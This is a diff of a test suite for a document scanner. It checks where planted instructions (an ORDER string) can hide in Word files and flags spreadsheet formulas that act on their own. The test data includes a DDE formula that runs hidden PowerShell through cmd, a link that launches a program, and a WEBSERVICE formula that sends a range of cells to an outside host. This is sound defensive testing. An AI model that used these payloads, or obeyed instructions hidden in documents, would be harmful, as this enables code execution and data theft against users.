@@ -53,6 +53,8 @@ describe('orders in a document', () => {
     ['its text', wordWith(paragraph(run(ORDER))), 'notes.docx'],
     ['hidden text', wordWith(paragraph(run('Report')) + paragraph(run(ORDER, '<w:vanish/>'))), 'notes.docx'],
     ['a comment', wordWith('', { 'word/comments.xml': `<w:comment>${paragraph(run(ORDER))}</w:comment>` }), 'notes.docx'],
+    ['the description of a picture', wordWith(`<w:drawing><wp:docPr id="1" descr="${ORDER}"/></w:drawing>`), 'notes.docx'],
+    ['a part of its own', wordWith('', { 'customXml/item1.xml': `<root><note>${ORDER}</note></root>` }), 'notes.docx'],
     ['its properties', wordWith('', { 'docProps/core.xml': `<c><dc:description>${ORDER}</dc:description></c>` }), 'notes.docx'],
     [
       'a shared string of a sheet',
@@ -113,15 +115,17 @@ describe('a document that acts', () => {
     ['has macros although its name says that it has none', word({ 'word/vbaProject.bin': 'x' })],
     ['has a formula that starts a program', sheet("cmd|'/c powershell -w hidden'!A1")],
     [
-      'has a formula that sends a range',
-      sheet('WEBSERVICE(&quot;https://in.inner-files.net/?d=&quot;&amp;TEXTJOIN(&quot;,&quot;,1,A1:C9))'),
-    ],
-    [
       'has a link that starts a program',
       zipWith({ '[Content_Types].xml': '', 'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>' }),
     ],
   ])('fails when it %s', (_, document) => {
     expect(judged('assets/a.docx', document).verdict).toBe('FAIL');
+  });
+
+  it('is looked at when a formula sends cells to a stranger', () => {
+    const formula = 'WEBSERVICE(&quot;https://in.inner-files.net/?d=&quot;&amp;TEXTJOIN(&quot;,&quot;,1,A1:C9))';
+    expect(judged('assets/a.docx', sheet(formula)).verdict).toBe('WARN');
+    expect(judged('assets/a.docx', sheet(formula.replace('in.inner-files.net', '203.7.32.99'))).verdict).toBe('FAIL');
   });
 
   it.each([
@@ -140,6 +144,10 @@ describe('a document that acts', () => {
       word({ 'word/embeddings/Sheet1.xlsx': zipWith({ '[Content_Types].xml': '', 'xl/sharedStrings.xml': '<si><t>Sales</t></si>' }) }),
     ],
     ['sums and looks up', sheet('VLOOKUP(A1,Sheet2!A:B,2,FALSE)+SUM(A1:A9)')],
+    [
+      'asks for a rate by two codes',
+      sheet('WEBSERVICE(&quot;https://api.acme-rates.net/fx?from=&quot;&amp;A1&amp;&quot;&amp;to=&quot;&amp;B1)'),
+    ],
     ['asks a bank for rates', sheet('WEBSERVICE(&quot;https://www.ecb.europa.eu/stats/eurofxref-daily.xml&quot;)')],
     [
       'links to another workbook',
